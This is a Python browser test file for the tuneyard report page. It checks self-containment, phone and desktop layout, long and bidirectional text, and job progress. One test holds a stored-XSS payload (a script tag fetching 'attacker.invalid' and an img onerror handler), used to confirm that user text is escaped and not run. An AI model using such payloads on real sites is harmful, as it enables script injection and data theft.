"""The report page in a real browser: it needs nothing but itself, fits phones, and runs nothing that people wrote into it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from tests.builders.reports import finished_report, make_job, tell, train_events, tune_result
from tests.servers.chromium import Seen, Tab

from tuneyard.tracking import Recorder, Report, write_report


def look(tab: Tab, folder: Path, *, width: int = 1280, dark: bool = False) -> Seen:
    return tab.look((folder / "report.html").absolute().as_uri(), width=width, dark=dark, pictured=False)


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280], ids=["phone", "desktop"])
def test_the_page_asks_for_nothing_and_fits_its_window(tab: Tab, tmp_path: Path, width: int, dark: bool) -> None:
    write_report(tmp_path, finished_report())

    seen = look(tab, tmp_path, width=width, dark=dark)

    assert [url for url in seen.requests if not url.startswith("data:")] == [(tmp_path / "report.html").as_uri()]
    assert seen.errors == []
    assert seen.width <= width
    assert "support-bot" in seen.text
    assert "41.8%" in seen.text


LONG = "an_unbroken_name_of_a_metric_or_a_column_that_goes_on_and_on_without_any_place_to_break_" * 3
BIDI = "\u202eevil\u202c \u2067שלום\u2069 <b>bold</b>"


@pytest.mark.parametrize("width", [360, 400])
def test_long_names_bidi_and_markup_do_not_widen_the_page(tab: Tab, tmp_path: Path, width: int) -> None:
    write_report(tmp_path, wide_report())

    seen = look(tab, tmp_path, width=width)

    assert seen.width <= width
    assert seen.errors == []
    for shown in (LONG, "<b>bold</b>", "240 empty, 60 cut off of 300"):
        assert shown in seen.text, shown


def wide_report() -> Report:
    """A report with long unbroken names, bidirectional text and markup wherever people or models name something."""
    report = finished_report(name="a" * 63, prompt=LONG)
    useless = {"empty": 240, "looping": 0, "cut_off": 60}
    for name in ("base", "judge"):
        report.tasks[name] |= useless
        report.tasks[name]["metrics"] |= {LONG: 123456789.123, BIDI: 0.5}
        report.tasks[name]["intervals"] = {LONG: [0.1, 123456789.123]}
        report.tasks[name]["samples"] = [{"row": 1, "prompt": LONG, "output": BIDI * 20, "reference": LONG}]
    train = report.tasks["train"]
    train["warnings"] = [LONG, BIDI]
    train["artifacts"] = {LONG: f"s3://{LONG}/{LONG}", BIDI: f"/{BIDI}"}
    train["details"] = {
        "mixture": {"parts": [LONG, BIDI], "shares": [0.5, 0.5], "rows_by_step": [[1, 2]], "tokens_by_step": [[3, 4]]},
        "slices": {"label": {LONG: {BIDI: {"rows": 5, "auc": 0.5}}}},
        "bottleneck": {"cause": "data", "sentence": LONG},
    }
    train["peak_memory_gb"], train["failure"], train["message"] = [1.0] * 40, "UserError", f"{LONG} {BIDI}"
    search = tune_result()
    search["best"] = {LONG: BIDI}
    search["trials"][0] |= {"point": {LONG: LONG}}
    search["effects"][0] |= {"setting": LONG}
    report.tasks["t" * 63] = search
    return replace(report, message=f"{LONG} {BIDI}", team="m" * 63, output=f"s3://{LONG}")


def test_what_people_wrote_is_shown_and_not_run(tab: Tab, tmp_path: Path) -> None:
    attack = "<script>document.title='run'; fetch('http://attacker.invalid/')</script><img src=x onerror=alert(1)>"
    write_report(tmp_path, finished_report(prompt=attack))

    seen = look(tab, tmp_path)

    assert "<script>document.title='run'" in seen.text
    assert [url for url in seen.requests if not url.startswith(("data:", "file:"))] == []
    assert seen.errors == []


def test_the_page_of_a_running_job_shows_how_far_it_is(tab: Tab, tmp_path: Path) -> None:
    recorder = Recorder(make_job())
    tell(recorder, train_events(steps=60, of=120))
    write_report(tmp_path, recorder.report())

    seen = look(tab, tmp_path)

    assert "50.0%" in seen.text
    assert seen.errors == []
